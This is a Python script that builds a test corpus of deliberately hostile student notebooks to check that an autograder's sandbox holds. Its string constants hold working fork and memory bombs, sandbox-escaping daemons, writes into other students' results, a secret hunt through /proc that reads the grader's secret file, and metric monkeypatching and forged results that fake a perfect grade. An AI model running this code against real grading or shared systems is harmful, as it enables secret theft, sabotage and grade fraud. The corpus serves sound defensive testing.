"""Build the hostile and broken notebooks of `tests/corpus/` from the code written here.

Every case is a notebook a student could hand in: most start with the starter's own
functions (so there are points to keep or lose) and then do one hostile or broken
thing. The fixtures are committed so a reader can open them, and rebuilt by this
script so they stay reproducible; `tests/test_hostile.py` checks that the committed
files are what it makes. The 50 MB notebook is never committed: `write_large_notebook`
makes it at test time.

Processes that cases start carry `CANARY` in their command line, and files they try to
plant outside their folder carry it in their name, so the test can find any survivor.

    python tests/corpus/build_corpus.py [OUT_FOLDER]
"""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from pathlib import Path

import nbformat

CORPUS = Path(__file__).resolve().parent
ROOT = CORPUS.parent.parent
STARTER = ROOT / "reference" / "notebooks" / "starter.ipynb"
NOTEBOOK_NAME = "hw4.ipynb"
CANARY = "mgcorpus"
LARGE_CASE = "huge_notebook_50mb"
LARGE_BYTES = 50 * 2**20

Cell = tuple[str, str]  # (cell type, source)


def _starter_cell(needle: str) -> str:
    """The starter's code cell that contains `needle`, so the corpus follows the starter."""
    for cell in nbformat.read(STARTER, as_version=4).cells:
        if cell.cell_type == "code" and needle in cell.source:
            return cell.source
    raise LookupError(f"the starter has no code cell containing {needle!r}")


def starter_functions() -> list[Cell]:
    """The starter's imports, encoder, generator and `build_pwm`: 13 points when harvested."""
    return [
        ("code", _starter_cell("def one_hot_encode_seqs")),
        ("code", _starter_cell("def generate_synthetic_dataset")),
        ("code", _starter_cell("def build_pwm")),
    ]


# A small model trained in seconds on data drawn here with numpy (the starter's generator
# is slow). Every case that must show "the grade is unchanged" trains exactly this, so its
# grade can be compared with the honest twin's, check by check.
TRAIN_TINY_MODEL = """\
import keras
from sklearn.metrics import auc, precision_recall_curve, roc_auc_score

rng = np.random.default_rng(2026)
codes = rng.integers(0, 4, size=(2000, 101))
starts = rng.integers(0, 101 - 5 + 1, size=1000)
for row, start in enumerate(starts):
    codes[row, start:start + 5] = [0, 1, 2, 3, 2]  # ACGTG
tiny_labels = np.array([1] * 1000 + [0] * 1000)
order = rng.permutation(2000)
X_tiny, y_tiny = np.eye(4, dtype="float32")[codes[order]], tiny_labels[order]

model = keras.Sequential([
    keras.Input((101, 4)),
    keras.layers.Conv1D(8, 9, activation="relu"),
    keras.layers.GlobalMaxPooling1D(),
    keras.layers.Dense(1, activation="sigmoid"),
])
model.compile(optimizer=keras.optimizers.Adam(0.01), loss="binary_crossentropy")
history = model.fit(X_tiny[:1600], y_tiny[:1600], validation_data=(X_tiny[1600:1800],
                    y_tiny[1600:1800]), epochs=3, batch_size=32, verbose=0)
test_preds = model.predict(X_tiny[1800:], verbose=0).ravel()
roc = float(roc_auc_score(y_tiny[1800:], test_preds))
precision, recall, _ = precision_recall_curve(y_tiny[1800:], test_preds)
pr_auc = float(auc(recall, precision))
print(f"Test ROC AUC: {roc:.4f}, PR AUC: {pr_auc:.4f}")
"""

UNTRAINED_MODEL = """\
import keras

model = keras.Sequential([
    keras.Input((101, 4)),
    keras.layers.Conv1D(8, 9, activation="relu"),
    keras.layers.GlobalMaxPooling1D(),
    keras.layers.Dense(1, activation="sigmoid"),
])
"""

AFTER = "print('this cell runs after the hostile one')\n"


def _code(*sources: str) -> list[Cell]:
    return [("code", source) for source in sources]


# --------------------------------------------------------------------------- time and memory

INFINITE_LOOP = "while True:\n    pass\n"

UNINTERRUPTIBLE_LOOP = """\
# A loop inside one C call: SIGINT is only looked at between bytecodes, so the
# interrupt never lands and the kernel must be killed.
total = sum(range(10**15))
"""

SLEEP_CELL = "import time\ntime.sleep(12)  # under the per-cell limit, but they add up\n"

MEMORY_BOMB = """\
hog = []
while True:
    hog.append(bytearray(64 * 2**20))
"""

FORK_BOMB = """\
import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(3600)
            os._exit(0)
    except OSError:
        time.sleep(0.1)
"""

THREAD_BOMB = """\
import threading
import time

while True:
    try:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    except RuntimeError:
        time.sleep(0.1)
"""

MANY_FILES = """\
import os
import socket
import time

# In bubblewrap (hostname "motifgrader") /tmp is the job's own tmpfs; elsewhere it is the
# machine's, so write into the job folder instead.
folder = "/tmp/spam" if socket.gethostname() == "motifgrader" else "spam"
os.makedirs(folder, exist_ok=True)
for i in range(5000):
    with open(f"{folder}/{i}.txt", "w") as handle:
        handle.write("x")
time.sleep(5)
"""

FILE_TOO_BIG = """\
with open("big.bin", "wb") as handle:
    for _ in range(48):
        handle.write(b"\\0" * 2**20)
"""

# --------------------------------------------------------------------------- dying kernels

OS_EXIT = "import os\nos._exit(3)\n"
SIGKILL_SELF = "import os\nimport signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
SYS_EXIT = "import sys\nsys.exit('done early')\n"
EXIT_CALL = "exit()\n"
STDIN_INPUT = "name = input('Your name: ')\n"

# --------------------------------------------------------------------------- output

OUTPUT_FLOOD = """\
for i in range(100_000):
    print(f"{i:08d} " + "flood " * 30)
"""

HUGE_IMAGE = """\
import os
from IPython.display import Image, display

display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + os.urandom(3 * 2**20), format="png"))
"""

# --------------------------------------------------------------------------- escaping the job

SETSID_DAEMONS = f"""\
import os
import subprocess
import sys

# A child in a session of its own that ignores SIGTERM.
subprocess.Popen(
    [sys.executable, "-c",
     "import signal, time  # {CANARY}-daemon\\n"
     "signal.signal(signal.SIGTERM, signal.SIG_IGN)\\n"
     "time.sleep(3600)\\n"],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
    stderr=subprocess.DEVNULL,
)
# A classic double-forked daemon with an empty environment, outside the job folder.
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        os.chdir("/")
        os.execve("/bin/sleep", ["{CANARY}-daemon", "3600"], {{}})
    os._exit(0)
os.waitpid(pid, 0)
print("daemons started")
"""

WRITE_OUTSIDE = f"""\
import glob
import os
import sys
import sysconfig

targets = [
    "../sentinel/victim.txt",                  # a file beside the job folders
    "../sentinel/{CANARY}-new.txt",
    "../{CANARY}-pwned.txt",
    "../out/{CANARY}-pwned.txt",               # the grader's output folder
    "../out/students/{CANARY}-other/results.json",  # another student's results
    "/tmp/{CANARY}-pwned.txt",
    "/root/{CANARY}-pwned.txt",
    "/etc/{CANARY}-pwned",
    os.path.join(sysconfig.get_paths()["purelib"], "{CANARY}_pwned.py"),
    os.path.join(os.path.dirname(sys.executable), "{CANARY}-pwned"),
]
targets += ["../out/gradebook.sqlite", "../out/index.html", "../out/grades.csv"]
targets += glob.glob("/tmp/*/students/*/results.json") + glob.glob("/tmp/*/*/students/*/results.json")
targets += glob.glob("../out/students/*/results.json") + glob.glob("../*/students/*/report.html")
for pattern in ("../mg-*", "../*/students/*", "/tmp/*/out", "/tmp/*/*/out", "/tmp/*/students/*"):
    targets += [os.path.join(p, "{CANARY}-pwned.txt") for p in glob.glob(pattern)]
for path in targets:
    try:
        with open(path, "a") as handle:
            handle.write("pwned by a student notebook\\n")
        print(f"WRITE {{path}}: WRITTEN")
    except OSError as exc:
        print(f"WRITE {{path}}: blocked ({{exc.strerror}})")
"""

SYMLINK_PLANT = f"""\
import os

# Links and special files where the grader writes after the kernel has ended.
os.symlink("../sentinel", "scorer")
os.symlink("../sentinel/victim.txt", "executed.ipynb")
os.symlink("/etc/passwd", "values.json")
os.mkfifo("{CANARY}-fifo")
try:
    os.link("../sentinel/victim.txt", "hardlink.txt")
    print("hard link made")
except OSError as exc:
    print(f"hard link refused ({{exc.strerror}})")
print(sorted(os.listdir(".")))
"""

KILL_PARENT = """\
import os
import signal

if os.getuid() == 0:
    print("KILL skipped: the kernel runs as root on this machine")
else:
    for target in (os.getppid(), 1):
        try:
            os.kill(target, signal.SIGKILL)
            print(f"KILL {target}: sent")
        except OSError as exc:
            print(f"KILL {target}: blocked ({exc.strerror})")
"""

NETWORK = """\
import socket

targets = [("1.1.1.1", 53), ("8.8.8.8", 443), ("example.com", 80)]
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        with open(table) as handle:
            rows = handle.read().splitlines()[1:]
    except OSError:
        continue
    for row in rows:
        local, state = row.split()[1], row.split()[3]
        if state == "0A":  # a listening socket on this machine
            targets.append(("127.0.0.1", int(local.rsplit(":", 1)[1], 16)))
for host, port in targets[:60]:
    try:
        with socket.create_connection((host, port), timeout=2):
            print(f"NETWORK {host}:{port}: CONNECTED")
    except OSError as exc:
        print(f"NETWORK {host}:{port}: blocked ({type(exc).__name__})")
"""

SECRET_HUNT = """\
import os
import sys
import time

found = [f"env {name}={value}" for name, value in os.environ.items()]
deadline = time.monotonic() + 4
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    data = handle.read(20000)
            except OSError:
                continue
            text = data.replace(b"\\0", b" ").decode(errors="replace")
            found.append(f"/proc/{pid}/{part}: {text}")
words = ("secret", "seed", "token", ".env", "gradebook", "request.json", "inputs.npz", "spec")
seen = 0
# The grader's own command line names its secret file: follow it.
for entry in list(found):
    words_in = entry.split(" ")
    for i, word in enumerate(words_in[:-1]):
        if word.startswith("--secret-file"):
            path = word.split("=", 1)[1] if "=" in word else words_in[i + 1]
            try:
                with open(path, "rb") as handle:
                    found.append(f"SECRET FILE {path}: " + handle.read(200).decode(errors="replace"))
            except OSError as exc:
                found.append(f"SECRET FILE {path}: unreadable ({exc.strerror})")
# The grader's answers: its package, the solution notebook, the spec and the expectations.
answers = ("solution.ipynb", "deepbind_motif.toml", "expectations.json")
grader_source = []
for name in ("grader", "reference"):
    try:
        module = __import__(name)
    except Exception:
        continue
    files = [f for folder in getattr(module, "__path__", []) for f in os.listdir(folder)]
    if files:
        grader_source.append(f"package {name}: {sorted(files)[:50]}")
for top in [*sys.path, "/work", "/root", "/home", "/opt", "/srv", "/usr/local"]:
    if not top or not os.path.isdir(top):
        continue
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", ".git", "node_modules")]
        for name in files:
            if name in answers:
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        grader_source.append(f"{path}: " + handle.read(300).decode(errors="replace"))
                except OSError:
                    pass
        if time.monotonic() > deadline:
            break
found += [f"GRADER SOURCE {line}" for line in grader_source]
found.append("GRADER SOURCE: none found" if not grader_source else "GRADER SOURCE: found")
deadline = time.monotonic() + 4
for top in ("..", "/tmp", "/run", "/root", "/home", "/work", "/etc/motifgrader"):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in (".venv", "site-packages", ".git", "proc", "sys")]
        for name in files:
            seen += 1
            if any(word in name.lower() for word in words):
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        found.append(f"{path}: " + handle.read(2000).decode(errors="replace"))
                except OSError as exc:
                    found.append(f"{path}: unreadable ({exc.strerror})")
        if seen > 20000 or time.monotonic() > deadline:
            break
loot = "\\n".join(found)
print(loot[:200_000])
# Smuggle whatever was found into the grade report through a contract value.
interaction_rule = loot[:20000]
"""

# --------------------------------------------------------------------------- tampering

FAKE_AUC_PRINT = """\
from IPython.display import Markdown, display

print("Test ROC AUC: 0.9990, PR AUC: 0.9990")
display(Markdown("**Final test ROC AUC: 0.999** (hidden data: 0.999)"))
"""

MONKEYPATCH = """\
import keras
import sklearn.metrics

# Everything that measures a model now says "perfect".
sklearn.metrics.roc_auc_score = lambda *args, **kwargs: 1.0
sklearn.metrics.average_precision_score = lambda *args, **kwargs: 1.0
sklearn.metrics.auc = lambda *args, **kwargs: 1.0
keras.Model.predict = lambda self, x, *args, **kwargs: np.ones((len(x), 1), dtype="float32")
keras.Model.evaluate = lambda self, *args, **kwargs: 0.0
keras.Model.count_params = lambda self: 1297
roc_auc_score, auc = sklearn.metrics.roc_auc_score, sklearn.metrics.auc

test_preds = model.predict(X_tiny[1800:]).ravel()
roc = roc_auc_score(y_tiny[1800:], test_preds)
pr_auc = auc(*precision_recall_curve(y_tiny[1800:], test_preds)[:2])
print(f"Test ROC AUC: {roc:.4f}, PR AUC: {pr_auc:.4f}")
"""

FORGE_HARVEST_FILES = """\
import json
import os

def scores(auc):
    return {"__dict__": [["roc_auc", auc], ["pr_auc", auc]]}


forged = {
    "roc": {"present": True, "type": "builtins.float", "value": 0.999},
    "pr_auc": {"present": True, "type": "builtins.float", "value": 0.999},
    "kernel_results": {"present": True, "type": "builtins.dict",
                       "value": {"__dict__": [[3, scores(0.9)], [11, scores(0.95)]]}},
}
# Wherever the grader might look for its harvest, before it has made its folder.
for folder in [".", "harvest", "scorer", "tmp"] + [f"harvest-{i:016x}" for i in range(4)]:
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "values.json"), "w") as handle:
        json.dump(forged, handle)
    with open(os.path.join(folder, "model.model.json"), "w") as handle:
        json.dump({"present": True, "file": "model.keras"}, handle)
    with open(os.path.join(folder, "model.keras"), "wb") as handle:
        handle.write(b"PK\\x03\\x04 not a model")
# Scorer output claiming perfect predictions on the hidden data.
with open("scorer/outputs.json", "w") as handle:
    json.dump({"model": {"loaded": True, "problem": "", "info": {"count_params": 1297}}}, handle)
np.savez("scorer/outputs.npz", **{"model/main": np.ones(8000)})
print(sorted(os.listdir(".")))
"""

FORGE_HARVEST_JSON = """\
import json

# The grader's harvest step runs in this kernel and writes with json.dump: rewrite
# the reported metrics on their way out.
_real_dump = json.dump


def _forging_dump(payload, handle, *args, **kwargs):
    if isinstance(payload, dict) and "roc" in payload:
        payload = dict(payload)
        for name in ("roc", "pr_auc"):
            payload[name] = {"present": True, "type": "builtins.float", "value": 0.999}
    return _real_dump(payload, handle, *args, **kwargs)


json.dump = _forging_dump
"""

LAMBDA_MODEL = """\
import keras

inputs = keras.Input((101, 4))
x = keras.layers.Lambda(lambda t: t * 1.0)(inputs)
x = keras.layers.Conv1D(8, 9, activation="relu")(x)
x = keras.layers.GlobalMaxPooling1D()(x)
model = keras.Model(inputs, keras.layers.Dense(1, activation="sigmoid")(x))
"""

OVERSIZED_MODEL = """\
import keras

model = keras.Sequential([
    keras.Input((101, 4)),
    keras.layers.Conv1D(16, 9, activation="relu"),
    keras.layers.Flatten(),
    keras.layers.Dense(1300, activation="relu"),
    keras.layers.Dense(1, activation="sigmoid"),
])
print(model.count_params(), "parameters")
"""

HARVEST_HANG = """\
import time


class EndlessHistory:
    # Reading `.history` never returns, and swallows the grader's interrupts.
    @property
    def history(self):
        while True:
            try:
                time.sleep(0.5)
            except KeyboardInterrupt:
                pass


history = EndlessHistory()
"""


# --------------------------------------------------------------------------- cases

CELLS: dict[str, Callable[[], list[Cell]]] = {
    "honest_tiny_model": lambda: [*starter_functions(), *_code(TRAIN_TINY_MODEL)],
    "fake_auc_print": lambda: [*starter_functions(), *_code(TRAIN_TINY_MODEL, FAKE_AUC_PRINT)],
    "monkeypatch_metrics": lambda: [*starter_functions(), *_code(TRAIN_TINY_MODEL, MONKEYPATCH)],
    "forge_harvest": lambda: [
        *starter_functions(),
        *_code(TRAIN_TINY_MODEL, FORGE_HARVEST_FILES, FORGE_HARVEST_JSON),
    ],
    "lambda_model": lambda: [*starter_functions(), *_code(LAMBDA_MODEL)],
    "oversized_model": lambda: [*starter_functions(), *_code(OVERSIZED_MODEL)],
    "harvest_hang": lambda: [*starter_functions(), *_code(HARVEST_HANG)],
    "infinite_loop": lambda: [*starter_functions(), *_code(INFINITE_LOOP, AFTER)],
    "uninterruptible_loop": lambda: [*starter_functions(), *_code(UNINTERRUPTIBLE_LOOP, AFTER)],
    "sleep_past_notebook_limit": lambda: [*starter_functions(), *_code(*[SLEEP_CELL] * 5)],
    "memory_bomb": lambda: [*starter_functions(), *_code(MEMORY_BOMB, AFTER)],
    "fork_bomb": lambda: [*starter_functions(), *_code(FORK_BOMB, AFTER)],
    "thread_bomb": lambda: [*starter_functions(), *_code(THREAD_BOMB, AFTER)],
    "many_files": lambda: [*starter_functions(), *_code(MANY_FILES, AFTER)],
    "file_too_big": lambda: [*starter_functions(), *_code(FILE_TOO_BIG, AFTER)],
    "os_exit_midway": lambda: [*starter_functions(), *_code(OS_EXIT, AFTER)],
    "sigkill_midway": lambda: [*starter_functions(), *_code(SIGKILL_SELF, AFTER)],
    "sys_exit": lambda: [*starter_functions(), *_code(SYS_EXIT, AFTER)],
    "exit_call": lambda: [*starter_functions(), *_code(EXIT_CALL, AFTER)],
    "stdin_input": lambda: [*starter_functions(), *_code(STDIN_INPUT, AFTER)],
    "output_flood": lambda: [*starter_functions(), *_code(OUTPUT_FLOOD, AFTER)],
    "huge_image": lambda: [*starter_functions(), *_code(HUGE_IMAGE, AFTER)],
    "setsid_daemon": lambda: [*starter_functions(), *_code(SETSID_DAEMONS, AFTER)],
    "write_outside_job": lambda: [*starter_functions(), *_code(WRITE_OUTSIDE)],
    "symlink_plant": lambda: [*starter_functions(), *_code(UNTRAINED_MODEL, SYMLINK_PLANT)],
    "kill_parent": lambda: [*starter_functions(), *_code(KILL_PARENT, AFTER)],
    "network": lambda: [*starter_functions(), *_code(NETWORK)],
    "secret_hunt": lambda: [*starter_functions(), *_code(SECRET_HUNT)],
    "no_code_cells": lambda: [
        ("markdown", "# Homework 4\n\nI ran everything in Colab; see the PDF."),
        ("markdown", "Answer Q1\n\nThe model has 1297 parameters."),
        ("code", "   \n"),
    ],
}


def _notebook(cells: list[Cell]) -> nbformat.NotebookNode:
    notebook = nbformat.v4.new_notebook()
    notebook.metadata = {
        "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}
    }
    for kind, source in cells:
        cell = (nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell)(
            source
        )
        cell.pop("id", None)
        notebook.cells.append(cell)
    notebook.nbformat_minor = 4
    return notebook


def _v4_bytes(cells: list[Cell]) -> bytes:
    return nbformat.writes(_notebook(cells)).encode("utf-8")


def _nbformat_v3() -> bytes:
    """An old (2014-era) notebook with worksheets; the grader upgrades it and runs it."""
    return nbformat.writes(_notebook(starter_functions()), version=3).encode("utf-8")


def _non_utf8() -> bytes:
    """Saved by an editor as Latin-1: a comment with an accented letter."""
    cells = starter_functions()
    cells.insert(0, ("code", "# notes for the caf@@ study group\nx = 1\n"))
    return _v4_bytes(cells).replace(b"@@", b"\xe9")


def _invalid_json() -> bytes:
    """A notebook cut off half way through (an interrupted upload)."""
    return _v4_bytes(starter_functions())[:1500]


def _json_not_a_notebook() -> bytes:
    return json.dumps(["this", "is", "valid", "JSON", "but", "not", "a", "notebook"]).encode()


RAW: dict[str, Callable[[], bytes]] = {
    "nbformat_v3": _nbformat_v3,
    "non_utf8": _non_utf8,
    "invalid_json": _invalid_json,
    "json_not_a_notebook": _json_not_a_notebook,
}


def case_names() -> list[str]:
    """Every committed case (the generated 50 MB one is not among them)."""
    return sorted([*CELLS, *RAW])


def build_case(name: str) -> bytes:
    """The bytes of one committed case's notebook."""
    if name in RAW:
        return RAW[name]()
    return _v4_bytes(CELLS[name]())


def write_large_notebook(folder: Path, size_bytes: int = LARGE_BYTES) -> Path:
    """A notebook of `size_bytes` whose bulk is saved output, written at test time."""
    notebook = _notebook(starter_functions())
    line = "one more line of a training log left in the saved notebook\n"
    per_line = len(json.dumps(line)) + len("      ,\n")  # as nbformat writes a list of lines
    text = line * (size_bytes // per_line + 1)
    notebook.cells.append(nbformat.v4.new_code_cell("print('the log is long')"))
    notebook.cells[-1].pop("id", None)
    notebook.cells[-1].outputs = [nbformat.v4.new_output("stream", name="stdout", text=text)]
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / NOTEBOOK_NAME
    path.write_text(nbformat.writes(notebook), encoding="utf-8")
    return path


def write_corpus(out: Path = CORPUS) -> list[Path]:
    """Write every committed case to `out/<case>/hw4.ipynb`."""
    written = []
    for name in case_names():
        folder = out / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / NOTEBOOK_NAME).write_bytes(build_case(name))
        written.append(folder / NOTEBOOK_NAME)
    return written


if __name__ == "__main__":
    for path in write_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else CORPUS):
        print(f"wrote {path}")
